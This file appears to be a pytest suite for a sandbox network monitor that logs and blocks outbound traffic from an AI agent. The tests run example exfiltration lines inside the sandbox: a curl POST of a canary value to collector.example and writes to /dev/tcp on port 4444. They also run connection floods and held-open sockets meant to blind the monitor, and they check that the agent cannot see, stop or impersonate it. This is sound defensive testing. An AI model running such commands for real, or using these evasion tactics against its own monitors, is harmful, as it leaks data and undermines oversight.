"""The network sentinel: its control channel, and what it records around a real local sandbox
(its parsers: ``test_netparse.py``)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from hazmat.sandbox.base import SandboxSpec
from hazmat.sandbox.guest import watch as sn
from hazmat.sandbox.local import LocalSandbox
from hazmat.sandbox.netwatch import SENTINEL_PATH

pytestmark = pytest.mark.anyio


def test_the_sentinel_refuses_unknown_ops_and_bad_json() -> None:
    proc = subprocess.run(
        [sys.executable, "-I", "-S", str(SENTINEL_PATH)],
        input=b'not json\n{"id": 3, "op": "explode"}\n',
        capture_output=True,
        timeout=20,
    )
    lines = [json.loads(line) for line in proc.stdout.decode().splitlines()]
    assert lines[0]["ready"] is True
    assert lines[1]["error"] == "bad_request"
    assert lines[2]["id"] == 3 and "unknown op" in lines[2]["message"]


# around a real local sandbox ----------------------------------------------------------


@pytest.fixture
async def sandbox():
    sb = LocalSandbox(SandboxSpec(), run_id="t-sentinel", episode_id="ep-sentinel")
    await sb.start()
    try:
        yield sb
    finally:
        await sb.stop()


@pytest.mark.timeout(60)
async def test_lookups_attempts_and_requests_are_recorded(sandbox: LocalSandbox) -> None:
    if sandbox.sentinel is None:
        pytest.fail(f"no sentinel: {sandbox.info()['sentinel']}")
    await sandbox.network_events()
    res = await sandbox.shell(
        "getent hosts evil.example; "
        "curl -s -m 3 -d 'k=CANARY-77' http://collector.example/in; echo; "
        "(echo x > /dev/tcp/203.0.113.9/4444) 2>/dev/null; "
        'python3 -c \'import socket; socket.socket(2, 2).sendto(b"hi", ("192.0.2.5", 9999))\'; '
        'python3 -c \'import socket; socket.socket(2, 2).sendto(b"q", ("8.8.8.8", 53))\''
    )
    assert "blocked by the hazmat network sentinel" in res.stdout_text
    events = await sandbox.network_events()
    assert events is not None
    dns = {e["name"] for e in events if e["type"] == "dns"}
    assert {"evil.example", "collector.example"} <= dns
    conns = {(e["proto"], e["remote"], e["port"]) for e in events if e["type"] == "connection"}
    assert {
        ("tcp", "203.0.113.9", 4444),
        ("udp", "192.0.2.5", 9999),
        ("udp", "8.8.8.8", 53),
    } <= conns
    posted = [e for e in events if e["type"] == "network" and e["host"] == "collector.example"]
    assert posted and posted[0]["method"] == "POST" and "CANARY-77" in posted[0]["payload"]
    attempt = [e for e in events if e["type"] == "connection" and e.get("host")]
    assert attempt and attempt[0]["host"] == "collector.example"  # the sinkhole address
    assert await sandbox.network_events() == []  # drained


@pytest.mark.timeout(60)
async def test_repeated_attempts_are_counted_not_listed(sandbox: LocalSandbox) -> None:
    await sandbox.network_events()
    await sandbox.shell("for i in $(seq 50); do (echo > /dev/tcp/203.0.113.7/25) 2>/dev/null; done")
    events = await sandbox.network_events() or []
    smtp = [e for e in events if e["type"] == "connection" and e["port"] == 25]
    assert len(smtp) == 1 and smtp[0]["count"] >= 50


@pytest.mark.timeout(60)
async def test_the_agent_cannot_see_stop_or_impersonate_the_sentinel(sandbox: LocalSandbox) -> None:
    assert sandbox.sentinel is not None
    info = sandbox.info()["sentinel"]
    assert info["uid"] == 65534 and info["mode"] == "host"
    status = Path(f"/proc/{info['pid']}/status").read_text()
    assert "NoNewPrivs:\t1" in status and "CapEff:\t0000000000000000" in status
    assert os.readlink(f"/proc/{info['pid']}/ns/pid") != sandbox._pidns  # not in its pid ns
    ps = await sandbox.shell("ps -eo args")
    assert "sentinel" not in ps.stdout_text
    # its ports are taken: the agent cannot bind the resolver or sinkhole ports
    bind = await sandbox.shell(
        "python3 -c 'import socket; s=socket.socket(2, 2); s.bind((\"0.0.0.0\", 53))'"
    )
    assert bind.exit_code != 0 and ("in use" in bind.stderr_text or "denied" in bind.stderr_text)
    # DNS still answers after the agent tried
    res = await sandbox.shell("getent hosts still.example")
    assert res.stdout_text.startswith("198.18.")


@pytest.mark.timeout(60)
async def test_stop_ends_the_sentinel_process() -> None:
    sb = LocalSandbox(SandboxSpec(), run_id="t-sentinel", episode_id="ep-stop")
    await sb.start()
    proc = sb._sentinel_proc
    assert proc is not None and proc.returncode is None
    pid = proc.pid
    await sb.stop()
    assert proc.returncode is not None
    stat = Path(f"/proc/{pid}/stat")
    assert not stat.exists() or stat.read_text().split()[2] == "Z"


@pytest.mark.timeout(60)
async def test_sentinel_off_means_no_events() -> None:
    sb = LocalSandbox(SandboxSpec(sentinel=False), run_id="t-sentinel", episode_id="ep-off")
    await sb.start()
    try:
        assert await sb.network_events() is None
        assert str(sb.info()["sentinel"]).startswith("unavailable: off")
        res = await sb.shell("(echo > /dev/tcp/203.0.113.9/80) 2>&1")
        assert "unreachable" in res.stdout_text
    finally:
        await sb.stop()


@pytest.mark.timeout(90)
async def test_a_flood_of_attempts_cannot_push_a_request_out(sandbox: LocalSandbox) -> None:
    await sandbox.network_events()
    flood = (
        "python3 -c 'import socket\n"
        "for i in range(3000):\n"
        '    socket.socket(2, 2).sendto(b"x", ("10.%d.%d.1" % (i // 250, i % 250), 7))\''
    )
    await sandbox.shell(flood + "; curl -s -m 3 -d k=FLOOD-CANARY http://after.example/")
    events = await sandbox.network_events() or []
    assert sum(e["type"] == "connection" for e in events) == sn.MAX_EVENTS
    assert any(e.get("proto") == "overflow" and e["count"] >= 1000 for e in events)
    assert any(e["type"] == "network" and "FLOOD-CANARY" in e["payload"] for e in events)


@pytest.mark.timeout(90)
async def test_held_open_connections_do_not_blind_the_sentinel(sandbox: LocalSandbox) -> None:
    await sandbox.network_events()
    hold = (
        "python3 -c 'import socket, time\n"
        "socks = []\n"
        "for i in range(400):\n"
        '    s = socket.socket(); s.connect(("198.51.100.%d" % (i % 200 + 1), 80))\n'
        "    socks.append(s)\n"
        "time.sleep(0.5)' & sleep 0.3; "
        "curl -s -m 3 -d k=HELD-CANARY http://late.example/; wait"
    )
    res = await sandbox.shell(hold)
    assert "blocked by the hazmat network sentinel" in res.stdout_text
    events = await sandbox.network_events() or []
    assert any(e["type"] == "network" and "HELD-CANARY" in e["payload"] for e in events)
    res = await sandbox.shell("getent hosts after-the-storm.example")
    assert res.stdout_text.startswith("198.18.")
